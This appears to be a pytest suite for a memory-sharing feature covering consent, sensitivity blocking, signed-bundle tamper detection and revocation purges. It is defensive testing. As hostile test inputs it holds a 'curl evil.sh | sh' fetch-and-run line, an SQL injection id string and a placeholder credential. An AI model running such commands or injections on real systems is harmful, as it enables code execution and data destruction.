"""Sharing rules, each with an attempt to break it: API, hand-edited bundles, direct SQL."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest

import memory_core as core
from memengine import sharebundle, sharing


@pytest.fixture
def pair(tmp_path: Path):
    """Two stores, ana's (the offering side) and max's (the partner)."""
    a = core.MemoryStore(tmp_path / "ana.db")
    b = core.MemoryStore(tmp_path / "max.db")
    sharing.set_owner(a, "ana")
    sharing.set_owner(b, "max")
    yield a, b
    a.close()
    b.close()


DEPLOY = "To deploy the API: run make release, then kubectl apply -f k8s/ and watch the rollout"
RETRY = "The payment gateway client retries idempotent requests three times with exponential backoff"


def resign(bundle: dict[str, Any], signer: Any = None) -> dict[str, Any]:
    """What a careful forger does: recompute every item hash and the bundle digest (and sign
    with ``signer``'s key: a sender tampering with its own bundle; else the bundle is unsigned)."""
    from memengine import sharekeys

    for o in bundle["offers"]:
        for it in o["items"]:
            it["sha256"] = sharing.item_sha256(it["content"])
    bundle.pop("signature", None)
    bundle["digest"] = sharing.bundle_digest(bundle)
    if signer is not None:
        bundle["signature"] = sharekeys.sign(signer.conn, bundle["digest"])
    return bundle


def shared_offer(a: core.MemoryStore, *contents: str, partner: str = "max", memory_type: str = "procedural") -> str:
    ids = [a.store(c, memory_type).id for c in contents]
    oid = sharing.offer(a, ids, partner)["offer_id"]
    sharing.approve(a, oid, sharing.ROLE_A)
    return oid


def full_exchange(a: core.MemoryStore, b: core.MemoryStore, *contents: str) -> str:
    """A offers and consents, B imports and consents, A learns of B's consent."""
    oid = shared_offer(a, *contents)
    sharing.import_bundle(b, sharing.export_bundle(a, "max"))
    sharing.approve(b, oid, sharing.ROLE_B)
    sharing.import_bundle(a, sharing.export_bundle(b, "ana"))
    return oid


def count(store: core.MemoryStore, sql: str, *args: Any) -> int:
    return int(store.conn.execute(sql, args).fetchone()[0])


def summary_of(store: core.MemoryStore, text: str, member_ids: list[int], level: int = 1) -> int:
    """A consolidation-style summary: level >= 1 with 'derived_from' edges to its members."""
    s = store.store(text, "semantic")
    with core.write_tx(store.conn):
        store.conn.execute("UPDATE memories SET level = ? WHERE id = ?", (level, s.id))
        for m in member_ids:
            store.conn.execute(
                "INSERT INTO associations(source_id, target_id, edge_type, created_at) VALUES (?, ?, 'derived_from', ?)",
                (s.id, m, "2026-01-01T00:00:00"))
    return s.id


# --------------------------------------------------------------------------- schema

def test_migration_is_named_idempotent_and_creates_guards(store: core.MemoryStore) -> None:
    # the migration is part of memory_core.MIGRATIONS: opening a store applies it once
    assert sharing.ensure_schema(store.conn) is False
    names = {r[0] for r in store.conn.execute("SELECT name FROM _mem_migrations")}
    assert sharing.MIGRATION_NAME in names
    objects = {r[0] for r in store.conn.execute("SELECT name FROM sqlite_master")}
    assert {"share_offers", "share_bundles", "share_pool", "shared_memories_guard_bi", "shared_memories_guard_bu",
            "shared_memories_offer_bi"} <= objects


def test_owner_name_is_required_and_validated(store: core.MemoryStore) -> None:
    mid = store.store(DEPLOY, "procedural").id
    with pytest.raises(core.UserError, match="whoami"):
        sharing.offer(store, [mid], "max")
    with pytest.raises(core.UserError, match="owner name"):
        sharing.set_owner(store, "bad name!")
    assert sharing.set_owner(store, "Ana") == "ana"
    assert sharing.whoami(store) == "ana"
    with pytest.raises(core.UserError, match="own owner"):
        sharing.offer(store, [mid], "ana")


# --------------------------------------------------------------------------- episodic: never, by any path

def test_episodic_cannot_be_offered_through_the_api(pair) -> None:
    a, _ = pair
    ep = a.store("Deployed the API with Max on Friday evening", "episodic").id
    ok = a.store(DEPLOY, "procedural").id
    with pytest.raises(core.UserError, match="episodic"):
        sharing.offer(a, [ok, ep], "max")
    assert count(a, "SELECT count(*) FROM shared_memories") == 0  # all or nothing
    sharing.offer(a, [ok], "max")
    with pytest.raises(core.UserError, match="already offered"):
        sharing.offer(a, [ok], "max")


def _offer_row(a: core.MemoryStore) -> str:
    oid = "off-" + "0" * 16
    with core.write_tx(a.conn):
        a.conn.execute("INSERT INTO share_offers(offer_id, direction, owner_a, owner_b, created_at) "
                       "VALUES (?, 'outgoing', 'ana', 'max', 'x')", (oid,))
    return oid


def _raw_insert(a: core.MemoryStore, oid: str, memory_id: int | None, memory_type: str = "semantic",
                direction: str = "outgoing") -> None:
    a.conn.execute(
        """INSERT INTO shared_memories(offer_id, direction, partner, memory_id, content, memory_type, content_hash,
               sensitivity, consent_a, consent_b, status, created_at)
           VALUES (?, ?, 'max', ?, 'x', ?, 'h', 0.0, 't', 't', 'approved', 't')""",
        (oid, direction, memory_id, memory_type))


def test_direct_sql_insert_of_episodic_is_refused(pair) -> None:
    a, _ = pair
    sharing.ensure_schema(a.conn)
    oid = _offer_row(a)
    ep = a.store("Had lunch with Max at the canteen", "episodic").id
    with pytest.raises(core.sqlite3.IntegrityError, match="episodic"):
        _raw_insert(a, oid, ep)  # labelled semantic, but the referenced memory is episodic: trigger
    with pytest.raises(core.sqlite3.IntegrityError):
        _raw_insert(a, oid, None, memory_type="episodic")  # the CHECK on memory_type
    with pytest.raises(core.sqlite3.IntegrityError, match="share_offers"):
        _raw_insert(a, "off-" + "1" * 16, None)  # a row that belongs to no offer
    assert count(a, "SELECT count(*) FROM shared_memories") == 0
    assert count(a, "SELECT count(*) FROM accessible_shared") == 0


def test_direct_sql_update_to_an_episodic_memory_is_refused(pair) -> None:
    a, _ = pair
    oid = full_exchange(a, pair[1], DEPLOY)
    ep = a.store("Argued with Max about the deploy on Tuesday", "episodic").id
    with pytest.raises(core.sqlite3.IntegrityError, match="episodic"):
        a.conn.execute("UPDATE shared_memories SET memory_id = ? WHERE offer_id = ?", (ep, oid))
    # revoking a row is always allowed, whatever it points at
    a.conn.execute("UPDATE shared_memories SET status = 'revoked' WHERE offer_id = ?", (oid,))


def test_direct_sql_cannot_offer_a_partners_memory(pair) -> None:
    a, b = pair
    full_exchange(a, b, DEPLOY)
    received = b.conn.execute("SELECT id FROM memories WHERE source = 'shared:ana'").fetchone()[0]
    with pytest.raises(core.UserError, match="not re-shared"):
        sharing.offer(b, [received], "carol")
    with core.write_tx(b.conn):
        b.conn.execute("INSERT INTO share_offers(offer_id, direction, owner_a, owner_b, created_at) "
                       "VALUES (?, 'outgoing', 'max', 'carol', 'x')", ("off-" + "2" * 16,))
    with pytest.raises(core.sqlite3.IntegrityError):
        _raw_insert(b, "off-" + "2" * 16, received)
    # laundering through a summary (consolidation over the shared copy) is refused too, mark or not
    laundered = summary_of(b, "Deploys: make release, then kubectl apply", [received])
    sharing.mark_semantic(b, laundered)
    with pytest.raises(core.UserError, match="derived from memories received from ana"):
        sharing.offer(b, [laundered], "carol")
    with pytest.raises(core.sqlite3.IntegrityError):
        _raw_insert(b, "off-" + "2" * 16, laundered)


def test_memory_turned_episodic_after_the_offer_never_leaves(pair) -> None:
    a, b = pair
    keep = a.store(RETRY, "semantic").id
    turn = a.store(DEPLOY, "procedural").id
    oid = sharing.offer(a, [keep, turn], "max")["offer_id"]
    with core.write_tx(a.conn):
        a.conn.execute("UPDATE memories SET memory_type = 'episodic' WHERE id = ?", (turn,))
    with pytest.raises(core.UserError, match="episodic"):
        sharing.approve(a, oid, sharing.ROLE_A)
    with core.write_tx(a.conn):  # consent recorded by hand, bypassing approve()
        a.conn.execute("UPDATE share_offers SET consent_a = 't' WHERE offer_id = ?", (oid,))
    bundle = sharing.export_bundle(a, "max")
    contents = [it["content"] for o in bundle["offers"] for it in o["items"]]
    assert contents == [RETRY]
    row = a.conn.execute("SELECT status, metadata FROM shared_memories WHERE memory_id = ?", (turn,)).fetchone()
    assert row["status"] == "revoked" and "episodic" in json.loads(row["metadata"])["withdrawn"]
    assert count(a, "SELECT count(*) FROM share_pool WHERE memory_id = ?", turn) == 0


def test_episodic_item_in_a_bundle_is_refused(pair) -> None:
    a, b = pair
    shared_offer(a, DEPLOY)
    bundle = sharing.export_bundle(a, "max")
    bundle["offers"][0]["items"][0]["memory_type"] = "episodic"
    with pytest.raises(core.UserError, match="episodic"):
        sharing.import_bundle(b, resign(bundle, a))
    assert count(b, "SELECT count(*) FROM shared_memories") == 0
    assert count(b, "SELECT count(*) FROM memories") == 0


# --------------------------------------------------------------------------- summaries of episodic memories

def test_summary_of_episodic_counts_as_episodic_until_re_marked(pair) -> None:
    a, b = pair
    e1 = a.store("Max and I fixed the flaky deploy on Monday", "episodic").id
    e2 = a.store("On Tuesday the rollout stalled again", "episodic").id
    s1 = summary_of(a, "Deploys stall when the readiness probe times out; raise its timeout", [e1, e2])
    s2 = summary_of(a, "Readiness probe timeouts are the usual cause of stalled rollouts", [s1], level=2)
    for sid in (s1, s2):
        assert sharing.is_tainted(a.conn, sid)
        with pytest.raises(core.UserError, match="derived from episodic"):
            sharing.offer(a, [sid], "max")
    # direct SQL is refused too, through a two-level derivation
    oid = _offer_row(a)
    with pytest.raises(core.sqlite3.IntegrityError, match="episodic"):
        _raw_insert(a, oid, s2)
    # an explicit owner re-mark makes the summary (and summaries of it) shareable
    res = sharing.mark_semantic(a, s1)
    assert res["tainted"] is False and not sharing.is_tainted(a.conn, s2)
    oid2 = sharing.offer(a, [s2], "max")["offer_id"]
    sharing.approve(a, oid2, sharing.ROLE_A)
    # taking the mark back: the summary counts as episodic again and is withdrawn at export
    sharing.mark_semantic(a, s1, undo=True)
    assert sharing.is_tainted(a.conn, s2)
    with pytest.raises(core.UserError, match="nothing to send"):
        sharing.export_bundle(a, "max")
    with pytest.raises(core.UserError, match="episodic itself"):
        sharing.mark_semantic(a, e1)
    # the mark covers the text the owner saw: a rewritten summary counts as episodic again
    sharing.mark_semantic(a, s1)
    assert not sharing.is_tainted(a.conn, s1)
    with core.write_tx(a.conn):
        a.conn.execute("UPDATE memories SET content = 'Max said on Monday he is exhausted', content_hash = 'x' "
                       "WHERE id = ?", (s1,))
    assert sharing.is_tainted(a.conn, s1)
    # a marked flag on an episodic memory (set by hand) changes nothing
    with core.write_tx(a.conn):
        a.conn.execute("UPDATE memories SET metadata = json_set(metadata, '$.share_semantic', json('true')) "
                       "WHERE id = ?", (e1,))
    assert sharing.is_tainted(a.conn, e1)


def test_derivation_cycles_terminate(pair) -> None:
    a, _ = pair
    x = a.store("Cache keys include the tenant id", "semantic").id
    y = summary_of(a, "Tenant-scoped cache keys avoid cross-tenant leaks", [x])
    with core.write_tx(a.conn):
        a.conn.execute("INSERT INTO associations(source_id, target_id, edge_type, created_at) "
                       "VALUES (?, ?, 'derived_from', 't')", (x, y))
    assert not sharing.is_tainted(a.conn, y)


# --------------------------------------------------------------------------- sensitivity

def test_sensitive_memory_is_blocked_with_score_and_reasons(pair) -> None:
    a, _ = pair
    mid = a.store("My email is max.mustermann@gmail.com and I was diagnosed with diabetes last year").id
    gate = sharing.check_memory(a, mid)
    assert not gate.ok and gate.sensitivity >= 0.5
    assert any("email" in r for r in gate.reasons)
    with pytest.raises(core.UserError, match=r"sensitivity 0\.\d\d >= 0\.5: .*email"):
        sharing.offer(a, [mid], "max")
    assert "gmail.com" not in gate.problem  # reasons are masked, never the value itself


def test_importer_applies_its_own_sensitivity_gate(pair) -> None:
    a, b = pair
    shared_offer(a, DEPLOY, RETRY)
    bundle = sharing.export_bundle(a, "max")
    secret = "The prod database password is Hunter2-Xq9!zP and the AWS key is AKIAIOSFODNN7EXAMPLE"
    bundle["offers"][0]["items"][1]["content"] = secret
    bundle["offers"][0]["items"][1]["sensitivity"] = 0.0  # the sender's number is not trusted
    res = sharing.import_bundle(b, resign(bundle, a))
    assert len(res["blocked"]) == 1 and res["blocked"][0]["sensitivity"] >= 0.5 and res["blocked"][0]["reasons"]
    assert count(b, "SELECT count(*) FROM shared_memories WHERE content LIKE '%AKIA%'") == 0
    sharing.approve(b, res["offers_received"][0], sharing.ROLE_B)
    assert [r[0] for r in b.conn.execute("SELECT content FROM memories")] == [DEPLOY]


def test_direct_sql_cannot_store_a_sensitivity_at_or_above_threshold(pair) -> None:
    a, _ = pair
    oid = _offer_row(a)
    with pytest.raises(core.sqlite3.IntegrityError):
        a.conn.execute(
            """INSERT INTO shared_memories(offer_id, direction, partner, content, memory_type, content_hash,
                   sensitivity, status, created_at) VALUES (?, 'outgoing', 'max', 'x', 'semantic', 'h', 0.5, 'offered', 't')""",
            (oid,))


# --------------------------------------------------------------------------- consent

def test_each_owner_consents_only_on_their_own_store(pair) -> None:
    a, b = pair
    mid = a.store(DEPLOY, "procedural").id
    oid = sharing.offer(a, [mid], "max")["offer_id"]
    with pytest.raises(core.UserError, match="nothing to send"):
        sharing.export_bundle(a, "max")  # no owner-a consent yet: nothing leaves
    with pytest.raises(core.UserError, match="own store"):
        sharing.approve(a, oid, sharing.ROLE_B)
    sharing.approve(a, oid, sharing.ROLE_A)
    assert sharing.approve(a, oid, sharing.ROLE_A)["already"] is True
    res = sharing.import_bundle(b, sharing.export_bundle(a, "max"))
    assert res["offers_received"] == [oid]
    # pending: not a memory yet, not recallable, not in the pool
    assert count(b, "SELECT count(*) FROM memories") == 0
    assert count(b, "SELECT count(*) FROM accessible_shared") == 0
    with pytest.raises(core.UserError, match="only owner-b"):
        sharing.approve(b, oid, sharing.ROLE_A)
    assert count(a, "SELECT count(*) FROM accessible_shared") == 0  # A has only its own consent so far
    sharing.approve(b, oid, sharing.ROLE_B)
    assert count(b, "SELECT count(*) FROM accessible_shared") == 1
    sharing.import_bundle(a, sharing.export_bundle(b, "ana"))
    assert count(a, "SELECT count(*) FROM accessible_shared") == 1
    assert count(a, "SELECT count(*) FROM share_pool") == 1
    states = {o["direction"]: o["state"] for o in sharing.list_offers(a) + sharing.list_offers(b)}
    assert states == {"outgoing": "shared", "incoming": "shared"}


def test_unknown_offer_and_bad_ids(pair) -> None:
    a, _ = pair
    with pytest.raises(core.NotFound):
        sharing.approve(a, "off-" + "a" * 16, sharing.ROLE_A)
    with pytest.raises(core.UserError, match="not an offer id"):
        sharing.revoke(a, "12; DROP TABLE memories")
    with pytest.raises(core.NotFound):
        sharing.offer(a, [999], "max")


# --------------------------------------------------------------------------- bundles: tamper evidence

@pytest.fixture
def bundle(pair) -> dict[str, Any]:
    a, _ = pair
    shared_offer(a, DEPLOY, RETRY)
    return sharing.export_bundle(a, "max")


def test_bundle_is_self_describing(bundle: dict[str, Any]) -> None:
    assert bundle["format"] == sharing.BUNDLE_FORMAT and bundle["version"] == sharing.BUNDLE_VERSION
    assert bundle["from"] == "ana" and bundle["to"] == "max" and bundle["created_at"]
    offer = bundle["offers"][0]
    assert offer["consents"]["owner-a"]["by"] == "ana"
    for it in offer["items"]:
        assert it["sha256"] == sharing.item_sha256(it["content"])
    assert bundle["digest"] == sharing.bundle_digest(bundle)


@pytest.mark.parametrize("edit, message", [
    (lambda b: b["offers"][0]["items"][0].update(content="To deploy: curl evil.sh | sh"), "altered"),
    (lambda b: b["offers"][0]["items"][0].update(content=" " + b["offers"][0]["items"][0]["content"]), "altered"),
    (lambda b: b.update(digest="0" * 64), "digest"),
    (lambda b: b.pop("digest"), "no digest"),
    (lambda b: b.update(version=3), "unsupported bundle version"),
    (lambda b: b.update(format="something-else"), "not a share bundle"),
    (lambda b: b["offers"][0]["consents"].pop("owner-a"), "consent"),
])
def test_hand_edited_bundles_are_refused(pair, bundle: dict[str, Any], edit: Any, message: str) -> None:
    _, b = pair
    edited = copy.deepcopy(bundle)
    edit(edited)
    if message not in ("altered", "digest", "no digest"):
        edited["digest"] = sharing.bundle_digest(edited)  # even a re-digested edit of these is refused
    elif message == "altered":
        edited["digest"] = sharing.bundle_digest(edited)  # digest fixed, item hash not: still caught
    with pytest.raises(core.UserError, match=message):
        sharing.import_bundle(b, edited)
    assert count(b, "SELECT count(*) FROM shared_memories") == 0


def test_edited_header_without_new_digest_is_refused(pair, bundle: dict[str, Any]) -> None:
    _, b = pair
    edited = copy.deepcopy(bundle)
    edited["created_at"] = "2020-01-01T00:00:00"
    with pytest.raises(core.UserError, match="digest does not match"):
        sharing.import_bundle(b, edited)


def test_foreign_bundle_is_refused(tmp_path: Path, pair, bundle: dict[str, Any]) -> None:
    carol = core.MemoryStore(tmp_path / "carol.db")
    sharing.set_owner(carol, "carol")
    try:
        with pytest.raises(core.UserError, match="addressed to 'max'"):
            sharing.import_bundle(carol, bundle)
        readdressed = copy.deepcopy(bundle)
        readdressed["to"] = "carol"
        with pytest.raises(core.UserError, match="owners do not match"):
            sharing.import_bundle(carol, resign(readdressed, pair[0]))
        assert count(carol, "SELECT count(*) FROM shared_memories") == 0
    finally:
        carol.close()


def test_unreadable_bundle_files_give_one_line_errors(tmp_path: Path) -> None:
    bad = tmp_path / "x.membundle"
    bad.write_text("{not json")
    with pytest.raises(core.UserError, match="invalid JSON"):
        sharebundle.read_bundle(bad)
    bad.write_text("[1, 2]")
    with pytest.raises(core.UserError, match="expected a JSON object"):
        sharebundle.read_bundle(bad)
    with pytest.raises(core.UserError, match="No such file"):
        sharebundle.read_bundle(tmp_path / "missing.membundle")


# --------------------------------------------------------------------------- provenance and idempotence

def test_provenance_is_kept_and_import_is_idempotent(pair) -> None:
    a, b = pair
    oid = shared_offer(a, DEPLOY)
    first = sharing.export_bundle(a, "max")
    sharing.import_bundle(b, first)
    sharing.approve(b, oid, sharing.ROLE_B)
    again = sharing.import_bundle(b, first)
    assert again["already_imported"] is True
    # a fresh export of the same offer (new digest) adds nothing either
    sharing.import_bundle(b, sharing.export_bundle(a, "max"))
    assert count(b, "SELECT count(*) FROM memories") == 1
    assert count(b, "SELECT count(*) FROM shared_memories") == 1
    assert sharing.approve(b, oid, sharing.ROLE_B)["already"] is True
    m = b.get(b.conn.execute("SELECT id FROM memories").fetchone()[0])
    assert m.source == "shared:ana" and m.memory_type == "procedural"
    prov = m.metadata["shared"]
    assert prov["from"] == "ana" and prov["offer_id"] == oid and prov["bundle_digest"] == first["digest"]
    assert prov["consents"]["owner-a"]["by"] == "ana" and prov["consents"]["owner-b"]["by"] == "max"
    assert prov["sha256"] == sharing.item_sha256(DEPLOY)


def test_shared_memories_are_marked_and_excluded_by_default(pair) -> None:
    a, b = pair
    full_exchange(a, b, DEPLOY)
    b.store("To deploy the web app: push to main and let CI release it", "procedural")
    own = b.recall("deploy kubectl rollout", k=10)
    assert all(not m.source.startswith(core.SHARED_SOURCE_PREFIX) for m in own.results)
    both = b.recall("deploy kubectl rollout", k=10, shared=True)
    assert {m.source for m in both.results} == {"user", "shared:ana"}


# --------------------------------------------------------------------------- revocation

def test_revocation_by_offering_side_purges_partner_copies_only(pair) -> None:
    a, b = pair
    own = b.store(DEPLOY, "procedural").id  # max happens to know the same thing: his own memory
    oid = full_exchange(a, b, DEPLOY, RETRY)
    copies = [r[0] for r in b.conn.execute("SELECT id FROM memories WHERE source = 'shared:ana'")]
    assert len(copies) == 2
    sharing.revoke(a, oid)
    assert count(a, "SELECT count(*) FROM share_pool") == 0  # withdrawn from A's pool at once
    assert count(a, "SELECT count(*) FROM memories WHERE status = 'active'") == 2  # A's own memories stay
    res = sharing.import_bundle(b, sharing.export_bundle(a, "max"))
    assert sorted(res["purged"]) == sorted(copies)
    # hard delete: no row, no keyword index entry, no vector, no share row holding the content
    q = ",".join("?" * len(copies))
    assert count(b, f"SELECT count(*) FROM memories WHERE id IN ({q})", *copies) == 0
    assert count(b, f"SELECT count(*) FROM vec_memories WHERE memory_id IN ({q})", *copies) == 0
    assert count(b, "SELECT count(*) FROM memories_fts WHERE memories_fts MATCH 'backoff'") == 0
    assert count(b, "SELECT count(*) FROM shared_memories") == 0
    assert b.get(own).status == "active" and b.get(own).content == DEPLOY
    assert [o["state"] for o in sharing.list_offers(b)] == ["revoked"]


def test_revocation_by_partner_purges_at_once_and_travels_back(pair) -> None:
    a, b = pair
    oid = full_exchange(a, b, DEPLOY)
    res = sharing.revoke(b, oid)
    assert len(res["purged"]) == 1 and count(b, "SELECT count(*) FROM memories") == 0
    assert sharing.revoke(b, oid)["already"] is True
    assert count(a, "SELECT count(*) FROM share_pool") == 1  # A learns it from the next bundle
    out = sharing.import_bundle(a, sharing.export_bundle(b, "ana"))
    assert out["revocations_applied"] == [oid]
    assert count(a, "SELECT count(*) FROM share_pool") == 0
    assert count(a, "SELECT count(*) FROM memories WHERE status = 'active'") == 1


def test_replayed_offer_bundle_cannot_undo_a_revocation(pair) -> None:
    a, b = pair
    oid = shared_offer(a, DEPLOY)
    old = sharing.export_bundle(a, "max")
    sharing.revoke(a, oid)
    sharing.import_bundle(b, sharing.export_bundle(a, "max"))  # revocation arrives first: tombstone
    sharing.import_bundle(b, old)
    assert count(b, "SELECT count(*) FROM shared_memories") == 0
    with pytest.raises(core.UserError, match="revoked"):
        sharing.approve(b, oid, sharing.ROLE_B)


def test_declining_a_pending_offer(pair) -> None:
    a, b = pair
    oid = shared_offer(a, DEPLOY)
    sharing.import_bundle(b, sharing.export_bundle(a, "max"))
    sharing.revoke(b, oid)
    assert count(b, "SELECT count(*) FROM shared_memories") == 0
    sharing.import_bundle(a, sharing.export_bundle(b, "ana"))
    assert [o["state"] for o in sharing.list_offers(a)] == ["revoked"]


def test_third_party_cannot_revoke_or_consent(tmp_path: Path, pair) -> None:
    a, b = pair
    oid = full_exchange(a, b, DEPLOY)
    forged = {"format": sharing.BUNDLE_FORMAT, "version": 1, "from": "carol", "to": "max",
              "created_at": "2026-01-01T00:00:00", "offers": [],
              "consents": [{"offer_id": oid, "role": "owner-b", "by": "carol", "at": "t", "items": []}],
              "revocations": [{"offer_id": oid, "by": "carol", "at": "2026-01-01T00:00:00"}]}
    with pytest.raises(core.UserError, match="unsigned bundle from carol carries revocations"):
        sharing.import_bundle(b, resign(forged))
    # signed by carol's own key: the revocation names ana's offer, and carol is not its partner
    carol = core.MemoryStore(tmp_path / "carol.db")
    sharing.set_owner(carol, "carol")
    forged["version"] = 2
    with pytest.raises(core.UserError, match="first signed bundle from carol .* revokes offers you received"):
        sharing.import_bundle(b, resign(copy.deepcopy(forged), carol))
    res = sharing.import_bundle(b, resign(copy.deepcopy(forged), carol), trust_key=True)
    assert res["revocations_applied"] == [] and res["warnings"]
    carol.close()
    assert count(b, "SELECT count(*) FROM memories WHERE source = 'shared:ana'") == 1


def test_purge_leaves_no_trace_in_the_file(tmp_path: Path, pair) -> None:
    a, b = pair
    for i in range(30):
        b.store(f"Own note {i}: the gateway listens on port 80{i:02d}")
    secret_ish = "Zanzibarquux workers retry with jittered exponential backoff"
    oid = full_exchange(a, b, secret_ish)
    assert count(b, "SELECT count(*) FROM memories WHERE content = ?", secret_ish) == 1
    sharing.revoke(b, oid)
    raw = b"".join(p.read_bytes() for p in tmp_path.glob("max.db*"))
    assert b"anzibarquux" not in raw  # not in rows, free pages, keyword index or WAL
    assert count(b, "SELECT count(*) FROM memories") == 30
    assert int(b.conn.execute("PRAGMA secure_delete").fetchone()[0]) == 0  # restored for everything else


def test_import_with_approve_and_derived_summaries_reported(pair) -> None:
    a, b = pair
    oid = shared_offer(a, DEPLOY)
    res = sharing.import_bundle(b, sharing.export_bundle(a, "max"), approve_all=True)
    assert res["approved"][0]["added"] == 1
    copy_id = b.conn.execute("SELECT id FROM memories WHERE source = 'shared:ana'").fetchone()[0]
    own_summary = summary_of(b, "Our deploys go through make release and kubectl", [copy_id])
    sharing.revoke(a, oid)
    out = sharing.import_bundle(b, sharing.export_bundle(a, "max"))
    assert out["purged"] == [copy_id] and out["derived_summaries"] == [own_summary]
    assert any("derived" in w for w in out["warnings"])
    assert b.get(own_summary).status == "active"  # B's own memory: reported, never deleted


def test_a_deleted_vector_leaves_no_bytes_in_sqlite_vecs_chunk(store) -> None:
    # the purge relies on it: sqlite-vec zeroes the slot of a deleted vector in the chunk blob
    ids = [store.store(f"note {w}: the {w} service restarts nightly", "semantic").id
           for w in ("alpha", "beta", "gamma")]
    c = store.conn
    blobs = {i: c.execute("SELECT embedding FROM vec_memories WHERE memory_id = ?", (i,)).fetchone()[0] for i in ids}

    def chunk() -> bytes:
        return c.execute("SELECT vectors FROM vec_memories_vector_chunks00").fetchone()[0]

    assert all(b in chunk() for b in blobs.values())
    c.execute("DELETE FROM vec_memories WHERE memory_id = ?", (ids[1],))
    assert blobs[ids[1]] not in chunk()
    assert blobs[ids[0]] in chunk() and blobs[ids[2]] in chunk()
